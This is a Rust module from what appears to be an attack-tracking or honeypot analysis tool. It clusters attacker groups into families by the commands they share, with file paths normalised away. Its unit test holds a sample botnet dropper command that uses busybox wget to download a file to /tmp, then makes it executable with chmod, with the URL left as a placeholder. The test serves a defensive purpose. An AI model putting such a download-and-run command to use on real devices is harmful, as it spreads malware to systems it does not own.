//! gangs → families: those that run the same kit, whatever they call its files. A family joins nothing.

use std::collections::{BTreeMap, BTreeSet};

use ringleader_model::hash::{hash64, hash128};

use super::Gang;
use super::attach::templates;
use crate::connect::boundary::is_system_path;
use crate::merge::campaigns::Campaigns;

/// Two gangs share a kit where so much of both is the same (thousandths).
const ALIKE: u64 = 400;
/// And no less than this many commands, or a short list of what everyone runs would do.
const LEAST: usize = 8;
/// A command of more gangs than this tells nothing.
const GANGS: usize = 64;

/// Gives each gang its family: the id is made from the first gang's, in the order of ids. A gang whose kit no other runs has
/// none.
pub(super) fn name(campaigns: &Campaigns, gangs: &mut [Gang]) {
    let kits: Vec<BTreeSet<u64>> = gangs.iter().map(|it| kit(campaigns, it)).collect();
    let mut with: BTreeMap<u64, Vec<usize>> = BTreeMap::new();
    for (at, kit) in kits.iter().enumerate() {
        kit.iter().for_each(|it| with.entry(*it).or_default().push(at));
    }
    let mut shared: BTreeMap<(usize, usize), usize> = BTreeMap::new();
    for of in with.values().filter(|it| it.len() <= GANGS) {
        for (n, a) in of.iter().enumerate() {
            of[n + 1..].iter().for_each(|b| *shared.entry((*a, *b)).or_default() += 1);
        }
    }
    // A gang belongs to the family of the first one that it is alike, or of the first that is alike it.
    let mut first: Vec<usize> = (0..gangs.len()).collect();
    for ((a, b), n) in shared {
        let all = kits[a].len() + kits[b].len() - n;
        if n >= LEAST && n as u64 * 1000 >= all as u64 * ALIKE {
            let (from, to) = (first[a].max(first[b]), first[a].min(first[b]));
            first.iter_mut().filter(|it| **it == from).for_each(|it| *it = to);
        }
    }
    let mut sizes: BTreeMap<usize, usize> = BTreeMap::new();
    first.iter().for_each(|it| *sizes.entry(*it).or_default() += 1);
    for at in 0..gangs.len() {
        let several = sizes[&first[at]] > 1;
        gangs[at].family = several.then(|| hash128(&gangs[first[at]].id.to_le_bytes(), 0x500));
    }
}

/// The commands of a gang, without the names that it chose.
fn kit(campaigns: &Campaigns, gang: &Gang) -> BTreeSet<u64> {
    let of = gang.campaigns.iter().flat_map(|it| templates(&campaigns.list[*it]));
    of.map(|it| hash64(unnamed(it.1).as_bytes())).collect()
}

fn unnamed(template: &str) -> String {
    let word = |word: &str| {
        let plain = word.trim_matches(|it: char| matches!(it, '"' | '\'' | ';' | '(' | ')' | '&' | '|'));
        let own = plain.contains(['/', '\\']) && !plain.starts_with('<') && !is_system_path(plain);
        if own { word.replace(plain, "<path>") } else { word.to_owned() }
    };
    template.split(' ').map(word).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_kit_is_the_same_whatever_its_files_are_called() {
        let a = unnamed("sh -c /bin/busybox wget -O /tmp/pty3 <url>; chmod +x /tmp/pty3;");
        assert_eq!(a, "sh -c /bin/busybox wget -O <path> <url>; chmod +x <path>;");
        assert_eq!(a, unnamed("sh -c /bin/busybox wget -O /var/run/kiln1 <url>; chmod +x /var/run/kiln1;"));
    }
}
